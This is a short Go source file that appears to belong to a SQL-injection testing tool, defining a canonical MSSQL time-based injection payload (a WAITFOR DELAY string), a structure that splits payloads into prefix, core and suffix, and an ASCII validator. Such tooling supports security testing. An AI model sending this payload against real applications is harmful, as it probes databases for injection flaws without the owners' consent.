// Package payload holds the canonical time-delay payload that the tamper catalog
// obfuscates, together with decoders that invert the encoding tampers.
package payload

import (
	"errors"
	"fmt"
)

// Base is the canonical MSSQL time-delay payload.
const Base = "'; WAITFOR DELAY '00:00:05'--"

// ErrInvalidPayload is returned for payloads outside the ASCII domain the
// catalog is designed around.
var ErrInvalidPayload = errors.New("invalid payload")

// Payload represents an injection payload split at its boundaries.
type Payload struct {
	Prefix    string // Boundary prefix closing the original query context (e.g. "'; ")
	Core      string // The injected statement (e.g. "WAITFOR DELAY '00:00:05'")
	Suffix    string // Boundary suffix (e.g. "--")
	Technique string // e.g. "time-based"
	DBMS      string // e.g. "MSSQL"
}

// String returns the full payload string (Prefix + Core + Suffix).
func (p *Payload) String() string {
	return p.Prefix + p.Core + p.Suffix
}

// Canonical returns the structured form of Base.
func Canonical() *Payload {
	return &Payload{
		Prefix:    "'; ",
		Core:      "WAITFOR DELAY '00:00:05'",
		Suffix:    "--",
		Technique: "time-based",
		DBMS:      "MSSQL",
	}
}

// Validate reports whether s is a printable-ASCII SQL fragment. Tab, CR and
// LF are allowed.
func Validate(s string) error {
	if s == "" {
		return fmt.Errorf("%w: empty", ErrInvalidPayload)
	}
	for i := 0; i < len(s); i++ {
		c := s[i]
		if c == '\t' || c == '\n' || c == '\r' {
			continue
		}
		if c < 0x20 || c > 0x7e {
			return fmt.Errorf("%w: byte 0x%02x at offset %d", ErrInvalidPayload, c, i)
		}
	}
	return nil
}
